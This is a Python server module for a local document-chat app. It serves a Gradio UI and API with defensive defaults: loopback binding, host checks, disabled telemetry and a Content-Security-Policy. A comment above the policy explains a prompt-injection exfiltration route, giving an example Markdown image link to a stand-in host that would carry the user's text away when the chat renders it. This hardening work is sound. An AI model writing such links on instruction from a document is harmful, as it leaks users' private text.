"""One FastAPI app serving the HTTP API (app.api) and the Gradio UI at "/", with safe defaults.

Safe defaults: binds 127.0.0.1; a loud warning when bound beyond loopback without auth; without
auth, answers only the names it is reached by (app.host_guard: no DNS rebinding); an upload
size limit (Settings.max_upload_bytes) enforced by Gradio; Gradio analytics and Hugging Face
telemetry off and a theme with local fonts, so neither the server nor the page reaches outside.
"""
from __future__ import annotations

import asyncio
import contextlib
import errno
import gc
import ipaddress
import os
import socket
import sys
from typing import Any, Callable

# Before gradio / huggingface_hub are imported anywhere: no analytics, no telemetry, no hub calls.
os.environ["GRADIO_ANALYTICS_ENABLED"] = "False"
os.environ["HF_HUB_DISABLE_TELEMETRY"] = "1"
os.environ.setdefault("HF_HUB_OFFLINE", "1")
os.environ.setdefault("DO_NOT_TRACK", "1")

import gradio as gr  # noqa: E402
import uvicorn  # noqa: E402
from fastapi import FastAPI  # noqa: E402

from app.api_auth import AuthSpec, parse_auth  # noqa: E402
from app.host_guard import HostGuard, allowed_host_names, host_name  # noqa: E402
from app.sigterm import sigterm_raises  # noqa: E402
from ui.app import build_ui  # noqa: E402
from ui.theme import CSS, JS, make_theme  # noqa: E402

DEFAULT_HOST = "127.0.0.1"
DEFAULT_PORT = 7860
# Stopping (Ctrl-C, SIGTERM; docker stop kills 10 s later): answers being written are stopped and
# saved as they stand within STOP_ANSWERS_S, then connections still open get GRACEFUL_S to close.
STOP_ANSWERS_S = 5.0
GRACEFUL_S = 3.0


def is_loopback(host: str) -> bool:
    """True when `host` only accepts connections from this machine."""
    if host in ("localhost", "ip6-localhost"):
        return True
    try:
        return ipaddress.ip_address(host.strip("[]")).is_loopback
    except ValueError:
        return False


def exposure_warning(host: str, auth: AuthSpec) -> str | None:
    """The warning to print when the server is reachable from other machines without a password."""
    if is_loopback(host) or parse_auth(auth) is not None:
        return None
    return (f"WARNING: jambadocs is listening on {host}, reachable from other machines, WITHOUT a "
            "password. Anyone on the network can read your documents and chats. Stop it and restart "
            "with --auth user:password, or bind 127.0.0.1.")


def _gradio_auth(auth: AuthSpec):
    """Gradio's login form calls check(user, password); reuse the API's constant-time checker."""
    return parse_auth(auth)


# What the page may load or send to: only this server. The chat renders Markdown, and an answer is
# untrusted (a document can tell the model what to write): "![x](http://elsewhere/?q=<your text>)"
# would load that image, sending the text away. Scripts and styles stay as Gradio needs them.
CONTENT_SECURITY_POLICY = "; ".join((
    "img-src 'self' data: blob:", "media-src 'self' data: blob:", "connect-src 'self'", "frame-src 'self'",
    "object-src 'none'", "form-action 'self'", "base-uri 'self'", "frame-ancestors 'self'"))


class _SecurityHeaders:
    """ASGI middleware adding CONTENT_SECURITY_POLICY (and nosniff) to every response."""

    def __init__(self, app) -> None:
        self.app = app

    async def __call__(self, scope, receive, send) -> None:
        async def send_with_headers(message) -> None:
            if message["type"] == "http.response.start":
                message["headers"] = [*message.get("headers", []),
                                      (b"content-security-policy", CONTENT_SECURITY_POLICY.encode()),
                                      (b"x-content-type-options", b"nosniff")]
            await send(message)

        await self.app(scope, receive, send_with_headers if scope["type"] == "http" else send)


def create_app(services: Any, auth: AuthSpec = None, local_token: str | None = None,
               host: str = DEFAULT_HOST, allowed_hosts: tuple[str, ...] = ()) -> FastAPI:
    """The FastAPI app: API routes (when app.api exists) plus the Gradio UI mounted at "/";
    `local_token` lets the CLI on the same data folder in without the password (app.local_server);
    without auth, only requests to loopback, `host` or `allowed_hosts` names are answered; requests
    from pages of other sites (Origin, Sec-Fetch-Site) never are."""
    app = FastAPI(title="jambadocs", docs_url=None, redoc_url=None, openapi_url=None)
    app.add_middleware(_SecurityHeaders)
    app.add_middleware(HostGuard, allowed=None if parse_auth(auth) is not None
                       else allowed_host_names(host, allowed_hosts),
                       origins=frozenset(host_name(n) for n in allowed_hosts))
    try:
        from app.api import create_router
    except ImportError:                        # API-less build: UI only
        create_router = None
    if create_router is not None:
        app.include_router(create_router(services, auth, local_token))
    settings = getattr(services, "settings", None)
    max_upload = getattr(settings, "max_upload_bytes", None)
    blocks = build_ui(services)
    blocks.queue(default_concurrency_limit=1)
    return gr.mount_gradio_app(
        app, blocks, path="/", auth=_gradio_auth(auth), auth_message="jambadocs: sign in",
        max_file_size=max_upload, footer_links=[], theme=make_theme(), css=CSS, js=JS,
        ssr_mode=False, enable_monitoring=False, mcp_server=False, pwa=False, show_error=True)


def serve(services: Any, host: str = DEFAULT_HOST, port: int = DEFAULT_PORT, auth: AuthSpec = None,
          log_level: str = "warning", allowed_hosts: tuple[str, ...] = ()) -> None:
    """Run the UI and API until interrupted (blocks); answers being written then are saved as stopped."""
    warning = exposure_warning(host, auth)
    if warning:
        bar = "!" * 78
        print(f"\n{bar}\n{warning}\n{bar}\n", file=sys.stderr, flush=True)
    from app import local_server

    token = local_server.new_token()
    app = create_app(services, auth, local_token=token, host=host, allowed_hosts=allowed_hosts)
    from ingest.budget import preload_retrieval

    preload_retrieval()                        # while nobody has asked yet
    sock = listening_socket(host, port)         # before saying where: a port in use is one clear error
    shown = f"[{host}]" if ":" in host else host
    print(f"jambadocs UI on http://{'127.0.0.1' if host in ('0.0.0.0', '::') else shown}:{port}/"
          + (" (sign in with the --auth user)" if auth else ""), file=sys.stderr, flush=True)
    settings = getattr(services, "settings", None)
    announced = (local_server.announce(settings, host, port, token) if settings is not None
                 else contextlib.nullcontext())
    config = uvicorn.Config(app, log_level=log_level, server_header=False, timeout_graceful_shutdown=GRACEFUL_S)
    server = _Server(config, lambda: services.stop("the server stopped", STOP_ANSWERS_S))
    # SIGTERM (docker stop, kill) ends by SystemExit, so cleanups run: uvicorn shuts down gracefully,
    # then re-raises the signal with the handler it found, and the default one would kill the process
    # at once (the server file of app.local_server would stay behind)
    try:
        with sock, announced, sigterm_raises(lambda signum: SystemExit(128 + signum)):
            server.run(sockets=[sock])
    finally:
        # the process ends now: its last full garbage collections walk every module's objects
        # (Gradio, torch, the engine), slow against docker stop's 10 s, to free nothing that
        # outlives the process (atexit handlers still run)
        gc.freeze()


class _Server(uvicorn.Server):
    """uvicorn's server that, when stopping, first stops the answers being written (`stop_answers`,
    returning how many it could not save in time): their streams end, saved, instead of the
    server waiting for answers that may run for minutes and being killed meanwhile."""

    def __init__(self, config: uvicorn.Config, stop_answers: Callable[[], int]) -> None:
        super().__init__(config)
        self._stop_answers = stop_answers

    async def shutdown(self, sockets=None) -> None:
        left = await asyncio.to_thread(self._stop_answers)
        if left:
            print(f"jambadocs: {left} answer(s) still being written could not be saved before stopping",
                  file=sys.stderr, flush=True)
        await super().shutdown(sockets)


def listening_socket(host: str, port: int) -> socket.socket:
    """A socket bound to host:port (what uvicorn would bind), or OSError saying why not."""
    try:
        family, kind, proto, _, address = socket.getaddrinfo(
            host, port, type=socket.SOCK_STREAM, flags=socket.AI_PASSIVE)[0]
        sock = socket.socket(family, kind, proto)
    except OSError as e:
        raise OSError(f"cannot listen on {host}:{port}: {e.strerror or e}") from None
    try:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(address)
    except OSError as e:
        sock.close()
        why = "the port is in use (another jambadocs serve? choose one with --port)" \
            if e.errno == errno.EADDRINUSE else (e.strerror or str(e))
        raise OSError(f"cannot listen on {host}:{port}: {why}") from None
    return sock


def main(argv: list[str] | None = None) -> int:
    """`python -m ui.server [flags]`: `jambadocs serve [flags]`, the same parser and settings."""
    from app.cli import main as cli_main

    return cli_main(["serve", *(sys.argv[1:] if argv is None else argv)])


if __name__ == "__main__":
    sys.exit(main())
